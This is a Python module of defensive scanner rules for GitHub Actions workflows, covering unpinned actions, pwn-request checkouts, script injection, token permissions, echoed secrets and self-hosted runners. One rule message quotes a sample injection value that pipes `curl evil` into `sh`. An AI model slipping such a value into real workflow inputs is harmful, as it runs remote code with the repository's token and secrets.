"""GitHub Actions workflow rules (`ci.*`, ids LG-CI-001…): the Security agent's `ci.github-actions`.

Supply chain (actions not pinned to a commit), untrusted input reaching a shell or a checkout
that runs with the base repository's secrets, token permissions, secrets printed to the log,
and self-hosted runners reachable from forks. Each rule is one small function over a `Workflow`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from llmgenie.agents.tools.parsing.workflows import Job, Step, Workflow, parse_workflow
from llmgenie.agents.tools.registry import Registry
from llmgenie.agents.tools.rules import Hit, RuleSet
from llmgenie.core.models import FileKind, Severity

__all__ = ["CI_RULES", "PUBLIC_TRIGGERS", "UNTRUSTED_CONTEXTS", "register"]

CI_RULES: RuleSet[Workflow] = RuleSet(agent="security")

#: Triggers a fork or any GitHub user can fire on a public repository.
PUBLIC_TRIGGERS = frozenset(
    {
        "pull_request",
        "pull_request_target",
        "pull_request_review",
        "pull_request_review_comment",
        "issue_comment",
        "issues",
        "discussion",
        "discussion_comment",
        "fork",
        "watch",
    }
)

#: Context values an outsider writes (GitHub Security Lab, "untrusted input"), as patterns.
UNTRUSTED_CONTEXTS = (
    r"github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)",
    r"github\.event\.(?:comment|review|review_comment)\.body",
    r"github\.event\.pages\.[^.\s}]+\.page_name",
    r"github\.event\.commits\.[^.\s}]+\.(?:message|author\.(?:email|name))",
    r"github\.event\.head_commit\.(?:message|author\.(?:email|name))",
    r"github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)",
    r"github\.event\.workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name)))",
    r"github\.head_ref",
)
_UNTRUSTED = re.compile(r"\$\{\{[^}]*?\b(" + "|".join(UNTRUSTED_CONTEXTS) + r")\b[^}]*\}\}")
_SHA = re.compile(r"^[0-9a-f]{40}$")
_PR_HEAD = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs/pull/"
    r"|github\.event\.workflow_run\.head_(?:sha|branch)"
)
_SECRET_EXPR = re.compile(r"\$\{\{\s*secrets\.[A-Za-z0-9_]+\s*\}\}")
_PRINT = re.compile(r"^\s*(?:echo|printf)\b")


def _steps(w: Workflow) -> Iterator[tuple[Job, Step]]:
    for job in w.jobs:
        for step in job.steps:
            yield job, step


def _step_label(job: Job, step: Step) -> str:
    name = step.body.get("name") or step.body.get("id") or f"step {step.index + 1}"
    return f'job "{job.id}" {name!s}'.strip()


def _hit(w: Workflow, line: int, resource: str, evidence: str) -> Hit:
    return Hit(file=w.file, line=line, resource=resource, evidence=evidence)


# -- supply chain ----------------------------------------------------------------------------


def _unpinned(uses: str) -> str | None:
    """Why a `uses:` reference is not pinned, or None when it is (or is local)."""
    if uses.startswith("./"):
        return None
    if uses.startswith("docker://"):
        return None if "@sha256:" in uses else "container image not pinned by digest"
    _, at, ref = uses.partition("@")
    if not at:
        return "no version at all"
    if _SHA.match(ref):
        return None
    return f"ref {ref!r} is a tag or branch, not a commit SHA"


@CI_RULES.rule(
    "LG-CI-001",
    category="ci.unpinned-action",
    severity=Severity.medium,
    title="Action not pinned to a commit SHA",
    message="A tag or branch of an action can be moved by whoever controls its repository: the"
    " next run executes their code with this workflow's token and secrets (tj-actions/"
    "changed-files, March 2025).",
    remediation="Pin the action to a full commit SHA and keep the version as a comment"
    " (`uses: actions/checkout@<sha> # v4.2.2`); let Dependabot or Renovate update it.",
    references=["CKV_GHA_8", "zizmor unpinned-uses", "OpenSSF Scorecard Pinned-Dependencies"],
)
def unpinned_action(w: Workflow, ctx: object) -> Iterator[Hit]:
    for job in w.jobs:
        uses = job.body.get("uses")  # a reusable workflow called by the job
        if isinstance(uses, str) and (why := _unpinned(uses.strip())):
            yield _hit(w, job.line_of("uses"), f"job/{job.id}", f"uses: {uses.strip()} ({why})")
        for step in job.steps:
            if step.uses and (why := _unpinned(step.uses)):
                yield _hit(
                    w,
                    step.line_of("uses"),
                    f"job/{job.id}",
                    f"{_step_label(job, step)}: uses {step.uses} ({why})",
                )


# -- untrusted input -------------------------------------------------------------------------


@CI_RULES.rule(
    "LG-CI-002",
    category="ci.pull-request-target-checkout",
    severity=Severity.critical,
    title="pull_request_target checks out the pull request's code",
    message="pull_request_target runs with the base repository's secrets and a write token;"
    " checking out the pull request's head and building or running it hands both to whoever"
    ' opened the pull request (a "pwn request").',
    remediation="Use the pull_request trigger for anything that runs the contributor's code;"
    " keep pull_request_target for labelling or commenting, without checking out the head.",
    references=["CKV_GHA_4", "zizmor dangerous-triggers", "GitHub Security Lab: pwn requests"],
)
def pull_request_target_checkout(w: Workflow, ctx: object) -> Iterator[Hit]:
    if not ({"pull_request_target", "workflow_run"} & w.triggers):
        return
    for job, step in _steps(w):
        if (step.uses or "").split("@")[0].lower() != "actions/checkout":
            continue
        ref = str(step.with_.get("ref") or "")
        repo = str(step.with_.get("repository") or "")
        if _PR_HEAD.search(ref) or "pull_request.head.repo" in repo:
            key = "ref" if _PR_HEAD.search(ref) else "repository"
            trigger = (
                "pull_request_target" if "pull_request_target" in w.triggers else "workflow_run"
            )
            yield _hit(
                w,
                step.line_of("with", key),
                f"job/{job.id}",
                f"on: {trigger}; {_step_label(job, step)}: checkout with {key}: {ref or repo}",
            )


@CI_RULES.rule(
    "LG-CI-003",
    category="ci.script-injection",
    severity=Severity.high,
    title="Untrusted input expanded into a script",
    message="`${{ … }}` is pasted into the script before the shell sees it: a pull request"
    ' title, issue body, comment or branch name like `a"; curl evil | sh; "` runs as code,'
    " with the workflow's token and secrets.",
    remediation="Pass the value through an environment variable (`env: TITLE: ${{"
    ' github.event.issue.title }}`) and use "$TITLE" in the script, quoted.',
    references=["zizmor template-injection", "GitHub Security Lab: untrusted input", "CWE-78"],
)
def script_injection(w: Workflow, ctx: object) -> Iterator[Hit]:
    for job, step in _steps(w):
        scripts: list[tuple[str, str, str]] = []
        if step.run:
            scripts.append(("run", "run", step.run))
        if (step.uses or "").split("@")[0].lower() == "actions/github-script":
            script = step.with_.get("script")
            if isinstance(script, str):
                scripts.append(("with.script", "script", script))
        for label, key, text in scripts:
            for m in _UNTRUSTED.finditer(text):
                if key == "run":
                    line = step.text_line("run", m.group(0))
                else:
                    line = step.line_of("with", "script")
                yield _hit(
                    w,
                    line,
                    f"job/{job.id}",
                    f"{_step_label(job, step)}: {label} expands {m.group(1)}",
                )


# -- token and secrets -----------------------------------------------------------------------


@CI_RULES.rule(
    "LG-CI-004",
    category="ci.permissions",
    severity=Severity.high,
    title="Workflow token has write access to everything",
    message="`permissions: write-all` gives the GITHUB_TOKEN write access to contents,"
    " packages, pull requests, workflows…: any step, or any action it calls, can push code or"
    " publish releases.",
    remediation="Set `permissions:` to the scopes the job needs (e.g. `contents: read`), at"
    " workflow level, and widen per job only where needed.",
    references=[
        "CKV2_GHA_1",
        "zizmor excessive-permissions",
        "OpenSSF Scorecard Token-Permissions",
    ],
)
def write_all(w: Workflow, ctx: object) -> Iterator[Hit]:
    if w.data.get("permissions") == "write-all":
        yield _hit(w, w.line_of("permissions"), "workflow", "permissions: write-all")
    for job in w.jobs:
        if job.body.get("permissions") == "write-all":
            yield _hit(w, job.line_of("permissions"), f"job/{job.id}", "job permissions: write-all")


@CI_RULES.rule(
    "LG-CI-005",
    category="ci.permissions",
    severity=Severity.low,
    title="Workflow token permissions not set",
    message="With no `permissions:` the token gets the repository's default, which is write"
    " access to most scopes on repositories created before February 2023 and on many"
    " organisations.",
    remediation="Add `permissions: contents: read` at the top of the workflow and grant more"
    " per job where needed.",
    references=["zizmor excessive-permissions", "OpenSSF Scorecard Token-Permissions"],
)
def permissions_not_set(w: Workflow, ctx: object) -> Iterator[Hit]:
    if "permissions" in w.data:
        return
    bare = [job.id for job in w.jobs if "permissions" not in job.body]
    if bare:
        yield _hit(
            w,
            w.line_of("jobs"),
            "workflow",
            f"no permissions at workflow level nor on job(s) {', '.join(bare)}",
        )


def _secret_envs(job: Job, step: Step) -> set[str]:
    names: set[str] = set()
    for env in (step.body.get("env"), job.body.get("env")):
        if isinstance(env, dict):
            names.update(str(k) for k, v in env.items() if _SECRET_EXPR.search(str(v)))
    return names


@CI_RULES.rule(
    "LG-CI-006",
    category="ci.secrets-echoed",
    severity=Severity.medium,
    title="Secret printed to the log",
    message="GitHub masks a secret only where it appears verbatim; printed encoded, split or"
    " transformed it lands in the run log, which everyone with read access (the world, on a"
    " public repository) can read.",
    remediation="Do not echo secrets; pipe them into the command that needs them"
    " (`--password-stdin`) or write them to a file with restricted permissions.",
    references=["CWE-532", "GitHub docs: using secrets in GitHub Actions"],
)
def secrets_echoed(w: Workflow, ctx: object) -> Iterator[Hit]:
    for job, step in _steps(w):
        if not step.run:
            continue
        envs = _secret_envs(job, step)
        env_use = (
            re.compile(r"\$\{?(" + "|".join(re.escape(n) for n in sorted(envs)) + r")\b")
            if envs
            else None
        )
        for text in step.run.splitlines():
            if not _PRINT.match(text) or "::add-mask::" in text:
                continue
            # piped or redirected: the value goes to a command or a file, not to the log
            if re.search(r"\|(?!\|)|>", text):
                continue
            m = _SECRET_EXPR.search(text) or (env_use.search(text) if env_use else None)
            if m:
                yield _hit(
                    w,
                    step.text_line("run", text.strip()),
                    f"job/{job.id}",
                    f"{_step_label(job, step)}: {text.strip()[:120]}",
                )


# -- runners ---------------------------------------------------------------------------------


def _self_hosted(runs_on: object) -> bool:
    if isinstance(runs_on, str):
        return runs_on.strip() == "self-hosted"
    if isinstance(runs_on, list):
        return any(str(label).strip() == "self-hosted" for label in runs_on)
    if isinstance(runs_on, dict):
        return _self_hosted(runs_on.get("labels"))
    return False


@CI_RULES.rule(
    "LG-CI-007",
    category="ci.self-hosted-runner",
    severity=Severity.high,
    title="Self-hosted runner on a trigger outsiders can fire",
    message="On a public repository, a fork's pull request or an issue comment makes a"
    " self-hosted runner run code someone else chose, on a machine that persists between jobs"
    " and often sits inside the network.",
    remediation="Run jobs for public triggers on GitHub-hosted runners, or on ephemeral,"
    " isolated self-hosted runners restricted to this repository with fork approval required.",
    references=["GitHub docs: self-hosted runner security", "zizmor self-hosted-runner"],
)
def self_hosted_public(w: Workflow, ctx: object) -> Iterator[Hit]:
    public = sorted(PUBLIC_TRIGGERS & w.triggers)
    if not public:
        return
    for job in w.jobs:
        if _self_hosted(job.body.get("runs-on")):
            yield _hit(
                w,
                job.line_of("runs-on"),
                f"job/{job.id}",
                f"runs-on: self-hosted; on: {', '.join(public)}",
            )


def register(registry: Registry) -> None:
    """The `ci.github-actions` group (GitHub Actions workflows)."""
    registry.parser("workflow", parse_workflow, [FileKind.ci_config])
    registry.rules("ci.github-actions", "workflow", CI_RULES)
